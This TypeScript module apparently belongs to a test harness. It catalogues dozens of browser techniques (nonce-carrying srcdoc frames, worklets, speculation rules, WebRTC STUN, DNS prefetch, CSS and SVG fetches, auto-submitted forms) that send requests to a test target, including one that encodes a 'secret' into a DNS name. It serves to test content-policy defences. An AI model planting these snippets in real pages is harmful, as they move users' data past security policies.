/** Leaks by what browsers have learned lately, and by corners that older lists leave out. */
import { element, markup, NONCE, script, style, type Target, type Technique } from "./leak-technique";

const HLS = (url: string): string =>
  `data:application/vnd.apple.mpegurl;base64,${btoa(`#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n${url}/segment.ts\n#EXT-X-ENDLIST\n`)}`;
/** A script in a document of its own, with the run's nonce: it has the policy, and none of our code. */
const inChild = (name: string, code: (target: Target) => string, more: Partial<Technique> = {}): Technique =>
  script(
    `${name} in a srcdoc child`,
    (to) =>
      `const n = ${NONCE}; const f = document.createElement("iframe"); f.srcdoc = '<script nonce="' + n + '">' + ${JSON.stringify(code(to)).replaceAll("</", "<\\/")} + '<' + '/script>'; document.body.append(f)`,
    more,
  );
/** In the document of an empty frame, which the app gets from us and the bare page does not get at all. */
const inEmpty = (name: string, code: (target: Target) => string, more: Partial<Technique> = {}): Technique =>
  script(
    name,
    (to) =>
      `const f = document.createElement("iframe"); document.body.append(f); const d = f.contentDocument; ${code(to)}`,
    more,
  );
const SAME_ORIGIN = { noControl: "same origin only" };

const CHILD: Technique[] = [
  inChild("fetch", (to) => `fetch("${to.url}/c", { mode: "no-cors" })`),
  inChild("a picture", (to) => `new Image().src = "${to.url}/c.png"`),
  inChild("navigation", (to) => `setTimeout(() => { location.href = "${to.url}/c" })`),
  inChild("navigation of the top", (to) => `setTimeout(() => { top.location.href = "${to.url}/c" })`, {
    alone: true,
  }),
  inChild("navigation of the parent", (to) => `setTimeout(() => { parent.location.href = "${to.url}/c" })`, {
    alone: true,
  }),
  inChild(
    "a worker",
    (to) => `new Worker(URL.createObjectURL(new Blob(["fetch('${to.url}/w', { mode: 'no-cors' })"])))`,
  ),
  inChild(
    "WebRTC",
    (to) =>
      `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${to.udp}" }] }); p.createDataChannel("a"); p.createOffer().then((o) => p.setLocalDescription(o))`,
    { crashes: true },
  ),
  inChild(
    "preconnect",
    (to) =>
      `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "${to.url}"; document.head.append(l)`,
    { alone: true, lasting: true },
  ),
  inChild(
    "dns-prefetch",
    (to) =>
      `const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "http://${to.host}"; document.head.append(l)`,
    { alone: true, lasting: true, byName: true },
  ),
  inChild(
    "speculation rules",
    (to) =>
      `const s = document.createElement("script"); s.nonce = document.currentScript.nonce; s.type = "speculationrules"; s.textContent = '{"prefetch":[{"source":"list","urls":["${to.url}/p"],"eagerness":"immediate"}]}'; document.head.append(s)`,
    { noControl: "prefetched for pages in a tab only" },
  ),
];

export const NEWER: Technique[] = [
  ...CHILD,
  script("CacheStorage", (to) => `caches.open("c").then((c) => c.add("${to.url}/c"))`, {
    noControl: "needs a lasting origin",
  }),
  script(
    "shared worker",
    (to) =>
      `new SharedWorker(URL.createObjectURL(new Blob(['fetch("${to.url}/s", { mode: "no-cors" })'], { type: "text/javascript" })))`,
  ),
  script(
    "audio worklet that imports",
    (to) =>
      `new AudioContext().audioWorklet.addModule(URL.createObjectURL(new Blob(['import "${to.url}/a.js"'], { type: "text/javascript" })))`,
  ),
  script(
    "paint worklet that imports",
    (to) =>
      `CSS.paintWorklet.addModule(URL.createObjectURL(new Blob(['import "${to.url}/p.js"'], { type: "text/javascript" })))`,
  ),
  script("shared storage worklet", (to) => `sharedStorage.worklet.addModule("${to.url}/s.js")`, {
    noControl: "needs https",
  }),
  script("text module import", (to) => `import("${to.url}/t.txt", { with: { type: "text" } })`, {
    noControl: "not shipped",
  }),
  script(
    "blob CSS module",
    (to) =>
      `import(URL.createObjectURL(new Blob(["body{background:url(${to.url}/m.png)}"], { type: "text/css" })), { with: { type: "css" } }).then((m) => document.adoptedStyleSheets.push(m.default))`,
    { alone: true },
  ),
  script(
    "blob style sheet that imports",
    (to) =>
      `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = URL.createObjectURL(new Blob(['@import "${to.url}/i.css";'], { type: "text/css" })); document.head.append(l)`,
  ),
  script(
    "data style sheet that imports",
    element("link", `{ rel: "stylesheet", href: "data:text/css,@import '" + URL + "/i.css'" }`),
  ),
  script(
    "HLS playlist",
    (to) =>
      `const v = document.createElement("video"); v.src = "${HLS(to.url)}"; document.body.append(v); v.load()`,
    { noControl: "not in every build" },
  ),
  script(
    "HLS playlist as a blob",
    (to) =>
      `const v = document.createElement("video"); v.preload = "auto"; v.src = URL.createObjectURL(new Blob([atob("${HLS(to.url).split(",")[1]}")], { type: "application/vnd.apple.mpegurl" })); document.body.append(v); v.load()`,
    { noControl: "not in every build" },
  ),
  script(
    "preload with imagesrcset",
    element("link", `{ rel: "preload", as: "image", imageSrcset: URL + "/p 1x" }`),
  ),
  script("compression dictionary", element("link", `{ rel: "compression-dictionary", href: URL + "/d" }`), {
    noControl: "fetched when idle",
  }),
  script(
    "alternate style sheet",
    element("link", `{ rel: "alternate stylesheet", title: "a", href: URL + "/a.css" }`),
  ),
  script(
    "document rules",
    (to) =>
      `const a = document.createElement("a"); a.href = "${to.url}/r"; a.textContent = "r"; document.body.append(a); const s = document.createElement("script"); s.nonce = document.querySelector("script[nonce]")?.nonce; s.type = "speculationrules"; s.textContent = '{"prefetch":[{"source":"document","eagerness":"immediate"}]}'; document.head.append(s)`,
  ),
  script(
    "media session artwork",
    (to) =>
      `navigator.mediaSession.metadata = new MediaMetadata({ title: "t", artwork: [{ src: "${to.url}/a.png", sizes: "96x96" }] })`,
    { noControl: "fetched by the desktop's media keys" },
  ),
  script(
    "identity provider",
    (to) =>
      `navigator.credentials.get({ identity: { providers: [{ configURL: "${to.url}/c.json", clientId: "1" }] } })`,
    { noControl: "asks for a well-known file of an https host" },
  ),
  script(
    "payment method",
    (to) =>
      `new PaymentRequest([{ supportedMethods: "${to.url}/pay" }], { total: { label: "t", amount: { currency: "EUR", value: "1" } } }).canMakePayment()`,
    { noControl: "needs https" },
  ),
  script(
    "interest group",
    (to) => `navigator.joinAdInterestGroup({ owner: "${to.url}", name: "n", lifetimeMs: 1000 })`,
    { noControl: "needs https" },
  ),
  script("presentation", (to) => `new PresentationRequest("${to.url}/p").getAvailability()`, {
    noControl: "needs https",
  }),
  script(
    "insertImage",
    (to) =>
      `document.body.contentEditable = "true"; document.body.focus(); document.execCommand("insertImage", false, "${to.url}/i.png")`,
    {
      alone: true,
    },
  ),
  script(
    "setHTMLUnsafe",
    (to) =>
      `const d = document.createElement("div"); document.body.append(d); d.setHTMLUnsafe('<img src="${to.url}/i.png">')`,
  ),
  script(
    "parseHTMLUnsafe and adoption",
    (to) => `document.body.append(Document.parseHTMLUnsafe('<img src="${to.url}/i.png">').body.firstChild)`,
  ),
  script(
    "DOMParser and adoption",
    (to) =>
      `document.body.append(new DOMParser().parseFromString('<img src="${to.url}/i.png">', "text/html").body.firstChild)`,
  ),
  script(
    "declarative shadow root",
    (to) =>
      `const d = document.createElement("div"); document.body.append(d); d.setHTMLUnsafe('<section><template shadowrootmode="open"><img src="${to.url}/i.png"></template></section>')`,
  ),
  script(
    "animated background",
    (to) =>
      `const d = document.createElement("div"); d.textContent = "x"; document.body.append(d); d.animate([{ backgroundImage: "url(${to.url}/1.png)" }, { backgroundImage: "url(${to.url}/2.png)" }], 1e4)`,
  ),
  script(
    "canvas filter",
    (to) =>
      `const c = document.createElement("canvas"); document.body.append(c); const x = c.getContext("2d"); x.filter = "url(${to.url}/f.svg#a)"; x.fillRect(0, 0, 5, 5)`,
    SAME_ORIGIN,
  ),
  script(
    "custom property and attr()",
    (to) =>
      `const d = document.createElement("div"); d.textContent = "x"; d.style.setProperty("--u", "url(${to.url}/v.png)"); d.style.background = "var(--u)"; document.body.append(d)`,
  ),
  script(
    "XSLT document()",
    (to) =>
      `const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(&quot;${to.url}/x.xml&quot;)"/></xsl:template></xsl:stylesheet>', "text/xml")); x.transformToFragment(document, document)`,
    SAME_ORIGIN,
  ),
  script(
    "WebRTC and a name",
    (to) =>
      `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${to.host}:${to.port}" }] }); p.createDataChannel("a"); p.createOffer().then((o) => p.setLocalDescription(o))`,
    { alone: true, lasting: true, byName: true, noControl: "no log tells of its lookups" },
  ),
  script(
    "a secret in a name",
    (to) =>
      `const l = document.createElement("link"); l.rel = "preconnect dns-prefetch"; l.href = "http://" + btoa("secret").toLowerCase().replace(/=/g, "") + ".${to.host}"; document.head.append(l)`,
    { alone: true, lasting: true, byName: true },
  ),
  markup("image element by its old name", (to) => `<image src="${to.url}/i.png">`),
  markup("lazy picture", (to) => `<img loading="lazy" src="${to.url}/i.png" width="5" height="5">`),
  markup(
    "svg image by xlink",
    (to) => `<svg><image xlink:href="${to.url}/i.png" width="5" height="5"/></svg>`,
  ),
  markup(
    "svg style",
    (to) => `<svg><style>rect{fill:url(${to.url}/f.svg#a)}</style><rect width="5" height="5"/></svg>`,
    SAME_ORIGIN,
  ),
  markup(
    "svg picture with a picture",
    (to) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${to.url}/i.png'/></svg>">`,
    { noControl: "pictures load nothing" },
  ),
  markup("math with a link", (to) => `<math href="${to.url}/m"><mi>x</mi></math>`, {
    noControl: "needs a press",
  }),
  markup(
    "object with a data document",
    (to) => `<object data="data:text/html,<img src='${to.url}/i.png'>"></object>`,
  ),
];

export const NEWER_PAGES: Technique[] = [
  style(
    "cross-fade",
    (to) => `#x{background:-webkit-cross-fade(url(${to.url}/a.png),url(${to.url}/b.png),50%)}`,
  ),
  style("src()", (to) => `#x{background:src("${to.url}/s.png")}`, undefined, { noControl: "not shipped" }),
  style("clip-path", (to) => `#x{clip-path:url(${to.url}/c.svg#a)}`, undefined, SAME_ORIGIN),
  style("offset-path", (to) => `#x{offset-path:url(${to.url}/o.svg#a)}`, undefined, SAME_ORIGIN),
  style("@import in a layer", (to) => `@import url("${to.url}/l.css") layer(a) supports(display:block);`),
  style(
    "@property",
    (to) =>
      `@property --p{syntax:"<image>";inherits:false;initial-value:url(${to.url}/p.png)}#x{background:var(--p)}`,
    undefined,
    { noControl: "an initial value may not have an address" },
  ),
  style("marker", (to) => `#x{display:list-item}#x::marker{content:url(${to.url}/m.png)}`),
  markup("area on a press", (to) => `<a id="a" href="#x" ping="${to.url}/p ${to.url}/q">a</a>`, {
    press: "#a",
  }),
  script(
    "a document of its own",
    (to) =>
      `setTimeout(() => { location.href = URL.createObjectURL(new Blob(['<img src="${to.url}/i.png">'], { type: "text/html" })) })`,
    { alone: true },
  ),
  script(
    "a javascript document",
    (to) => `setTimeout(() => { location.href = "javascript:'<img src=${to.url}/i.png>'" })`,
    { alone: true },
  ),
  script(
    "a document by open()",
    (to) =>
      `setTimeout(() => { document.open(); document.write('<img src="${to.url}/i.png">'); document.close() })`,
    { alone: true },
  ),
  inEmpty(
    "a picture in an empty frame",
    (to) =>
      `d.body.innerHTML = '<img src="${to.url}/i.png">'; const i = d.createElement("img"); i.src = "${to.url}/j.png"; d.body.append(i)`,
  ),
  inEmpty(
    "style sheets in an empty frame",
    (to) =>
      `d.open(); d.write('<link rel="stylesheet" href="${to.url}/l.css"><style>@import "${to.url}/i.css"; body{background:url(${to.url}/b.png)}</style>'); d.close()`,
  ),
  inEmpty(
    "preconnect in an empty frame",
    (to) => `d.head.innerHTML = '<link rel="preconnect" href="${to.url}">'`,
    { alone: true, lasting: true },
  ),
  inEmpty(
    "preconnect by an element in an empty frame",
    (to) =>
      `const l = d.createElement("link"); l.rel = "preconnect"; l.setAttribute("href", "${to.url}"); d.head.append(l)`,
    { alone: true, lasting: true },
  ),
  inEmpty(
    "preconnect written into an empty frame",
    (to) => `d.open(); d.write('<link rel="preconnect" href="${to.url}">'); d.close()`,
    { alone: true, lasting: true },
  ),
  inEmpty(
    "a link in an empty frame",
    (to) => `d.body.innerHTML = '<a href="${to.url}/a">a</a>'; d.body.firstChild.click()`,
  ),
  inEmpty("the place of an empty frame", (to) => `f.contentWindow.location.href = "${to.url}/p"`),
  script(
    "history.back to another document",
    (to) => `setTimeout(() => { history.pushState(1, "", "?1"); location.replace("${to.url}/h") })`,
    { alone: true },
  ),
  markup(
    "form by a key",
    (to) =>
      `<form action="${to.url}/n"><input id="b" name="q" value="secret"><button>b</button></form><script nonce>document.forms[0].requestSubmit()</script>`,
    { alone: true },
  ),
  markup(
    "invoker command",
    (to) =>
      `<form id="f" action="${to.url}/n"><input name="q" value="1"></form><button id="b" form="f" type="submit">b</button>`,
    { press: "#b" },
  ),
];
